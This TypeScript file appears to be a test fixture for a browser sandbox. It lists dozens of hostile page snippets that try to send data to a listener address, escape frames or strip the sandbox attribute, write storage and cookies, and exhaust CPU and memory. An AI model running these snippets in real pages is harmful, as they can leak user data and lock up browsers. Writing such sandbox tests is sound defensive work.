import { type HostileProgram, listener, stun, tried } from './hostile-program.ts';

const page = (name: string, tries: string, text: string): HostileProgram => ({
  name,
  tries,
  text,
});
const go = (address: string) => `'${listener}${address}'`;
/** Run in a document of their own. */
export const hostilePages: HostileProgram[] = [
  page('fetch of a page', 'the network', tried(`await fetch(${go('page')})`)),
  page(
    'XMLHttpRequest of a page',
    'the network',
    tried(`const x = new XMLHttpRequest(); x.open('GET', ${go('xhr')}); x.send()`),
  ),
  page(
    'sockets of a page',
    'the network',
    tried(`new WebSocket('ws://127.0.0.1:4/ws'); new EventSource(${go('events')})`),
  ),
  page('beacon of a page', 'the network', tried(`navigator.sendBeacon(${go('beacon')}, 'x')`)),
  page('an image', 'the network', `new Image().src = ${go('image')};`),
  page(
    'styles',
    'the network',
    `document.head.insertAdjacentHTML('beforeend', '<style>@import "${listener}css"; body { background: url(${listener}bg) } @font-face { font-family: x; src: url(${listener}font) } body { font-family: x }</style>');`,
  ),
  page(
    'links that load',
    'the network',
    `document.head.insertAdjacentHTML('beforeend', ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender'].map((rel) => '<link rel="' + rel + '" as="image" href="${listener}' + rel + '">').join(''));`,
  ),
  page(
    'speculation',
    'the network',
    `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [${go('spec')}] }] }); document.head.append(s);`,
  ),
  page(
    'media and objects',
    'the network',
    `document.body.innerHTML = '<video autoplay src="${listener}video"></video><audio autoplay src="${listener}audio"></audio><object data="${listener}object"></object><embed src="${listener}embed"><input type="image" src="${listener}input">';`,
  ),
  page('WebRTC of a page', 'the network', tried(stun('RTCPeerConnection'))),
  page('WebRTC by its other name', 'the network', tried(stun('webkitRTCPeerConnection'))),
  page(
    'WebRTC of a frame inside',
    'the network',
    tried(
      `const f = document.createElement('iframe'); document.body.append(f); ${stun('f.contentWindow.RTCPeerConnection')}`,
    ),
  ),
  page(
    'WebRTC of a frame with a text of its own',
    'the network',
    `const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(`<script>${stun('RTCPeerConnection')}<`)} + '/script>'; document.body.append(f);`,
  ),
  page(
    'WebRTC of a frame with a script of a blob',
    'the network',
    `const f = document.createElement('iframe'); const a = URL.createObjectURL(new Blob([${JSON.stringify(stun('RTCPeerConnection'))}], { type: 'text/javascript' })); f.srcdoc = '<script src="' + a + '"><' + '/script>'; document.body.append(f);`,
  ),
  page(
    'WebRTC of a handler in a frame',
    'the network',
    `const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(`<img src="x" onerror="${stun('RTCPeerConnection')}">`)}; document.body.append(f);`,
  ),
  page(
    'WebRTC of another document in its place',
    'the network',
    `location.href = 'data:text/html,' + encodeURIComponent(${JSON.stringify(`<script>${stun('RTCPeerConnection')}<`)} + '/script>');`,
  ),
  page(
    'WebRTC of a blob in its place',
    'the network',
    `location.href = URL.createObjectURL(new Blob([${JSON.stringify(`<script>${stun('RTCPeerConnection')}<`)} + '/script>'], { type: 'text/html' }));`,
  ),
  page(
    'WebRTC of an address that is a script',
    'the network',
    `location.href = 'javascript:' + encodeURIComponent(${JSON.stringify(`'<script>${stun('RTCPeerConnection').replaceAll("'", '"')}<`)} + "/script>'");`,
  ),
  page(
    'a driver for the frames beside it',
    'the network, in a frame that has only begun',
    `const say = () => { for (let i = 0; i < parent.frames.length; i += 1) { const { port1, port2 } = new MessageChannel(); parent.frames[i].postMessage({ driver: ${JSON.stringify(`() => fetch('${listener}sibling')`)} }, '*', [port2]); } }; setInterval(say, 5);`,
  ),
  page(
    'a frame inside',
    'the network',
    `document.body.insertAdjacentHTML('beforeend', '<iframe src="${listener}frame"></iframe><iframe srcdoc="<script>fetch(\\'${listener}srcdoc\\')</script><img src=\\'${listener}srcimg\\'>"></iframe>');`,
  ),
  page(
    'a frame of our own',
    'the product’s pages',
    tried(
      "const f = document.createElement('iframe'); f.src = '/dashboard'; f.onload = () => { parent.postMessage(f.contentDocument?.title, '*'); }; document.body.append(f)",
    ),
  ),
  page('navigation', 'to take data elsewhere', `location.href = ${go('navigation?secret')};`),
  page(
    'a refresh',
    'to take data elsewhere',
    `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${listener}refresh">';`,
  ),
  page(
    'a link',
    'to take data elsewhere',
    `const a = document.createElement('a'); a.href = ${go('link')}; a.ping = ${go('ping')}; a.target = '_blank'; document.body.append(a); a.click();`,
  ),
  page(
    'a form',
    'to take data elsewhere',
    `document.body.innerHTML = '<form action="${listener}form" method="post"><input name="a" value="b"></form>'; document.forms[0].submit();`,
  ),
  page(
    'a form upwards',
    'the page around',
    `document.body.innerHTML = '<form action="${listener}form" target="_top"><input name="a"></form>'; document.forms[0].submit();`,
  ),
  page('a window', 'a window of its own', tried(`open(${go('window')})`)),
  page('the top', 'the page around', tried(`top.location = ${go('top')}`)),
  page('the parent', 'the page around', tried("parent.document.title = 'stolen'")),
  page('the parent’s storage', 'storage', tried("parent.localStorage.setItem('stolen', '1')")),
  page('storage of a page', 'storage', tried("localStorage.setItem('stolen', '1')")),
  page('sessionStorage of a page', 'storage', tried("sessionStorage.setItem('stolen', '1')")),
  page('indexedDB of a page', 'storage', tried("indexedDB.open('stolen')")),
  page('cookies of a page', 'cookies', tried("document.cookie = 'stolen=1; path=/'")),
  page(
    'a download',
    'the disk',
    "const a = document.createElement('a'); a.download = 'x.txt'; a.href = 'data:text/plain,x'; document.body.append(a); a.click();",
  ),
  page('full screen', 'the screen', tried('await document.documentElement.requestFullscreen()')),
  page('questions', 'to hold the page up', "alert('x'); confirm('x'); prompt('x'); print();"),
  page(
    'workers of a page',
    'another world',
    tried("new Worker(URL.createObjectURL(new Blob(['for(;;);'])))"),
  ),
  page(
    'workers without end of a page',
    'to wear the machine out',
    tried("for (let i = 0; i < 200; i += 1) new Worker(URL.createObjectURL(new Blob(['for(;;);'])))"),
  ),
  page('SharedWorker of a page', 'another world', tried(`new SharedWorker(${go('shared.js')})`)),
  page('BroadcastChannel of a page', 'other tabs', tried("new BroadcastChannel('lectern').postMessage('x')")),
  page('import() of a page', 'another script', tried(`import(${go('module.js')})`)),
  page('WebTransport of a page', 'the network', tried("new WebTransport('https://127.0.0.1:4/wt')")),
  page(
    'fetchLater',
    'the network, when the page has gone',
    tried(`fetchLater(${go('later')}, { activateAfter: 0 })`),
  ),
  page(
    'another base',
    'to take data elsewhere',
    `document.head.innerHTML = '<base href="${listener}">'; document.body.innerHTML = '<img src="base"><a href="linked" id="a">x</a>'; document.getElementById('a').click();`,
  ),
  page(
    'a frame of data',
    'another world',
    `document.body.innerHTML = '<iframe src="data:text/html,<script>new Image().src=%22${listener}framed%22</script>"></iframe>';`,
  ),
  page(
    'a frame of a blob',
    'another world',
    `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="${listener}blob">'], { type: 'text/html' })); document.body.append(f);`,
  ),
  page(
    'endless promises of a page',
    'to hold the page up',
    'const again = () => Promise.resolve().then(again); again();',
  ),
  page(
    'an endless loop in a handler',
    'to hold the page up',
    "addEventListener('click', () => { for (;;); }); document.body.click();",
  ),
  page('a service worker', 'every later page', tried("await navigator.serviceWorker.register('/theme.js')")),
  page(
    'the sandbox undone',
    'the page around',
    tried("frameElement.removeAttribute('sandbox'); location.reload()"),
  ),
  page(
    'focus',
    'what is typed',
    'setInterval(() => { window.focus(); document.body.tabIndex = 0; document.body.focus(); }, 10);',
  ),
  page(
    'endless messages',
    'to flood the page',
    "setInterval(() => { for (let i = 0; i < 100; i += 1) parent.postMessage('x', '*'); }, 1);",
  ),
  page(
    'endless output of a page',
    'to flood the page',
    "setInterval(() => { for (let i = 0; i < 1000; i += 1) console.log('x'.repeat(100)); }, 1);",
  ),
  page('an endless loop of a page', 'to hold the page up', 'for (;;) {}'),
  page('a loop that nothing sees', 'to hold the page up', "eval('for (;;);');"),
  page(
    'a gigabyte of a page',
    'to take all memory',
    'const all = []; setInterval(() => all.push(new Uint8Array(2 ** 24).fill(1)), 50);',
  ),
];
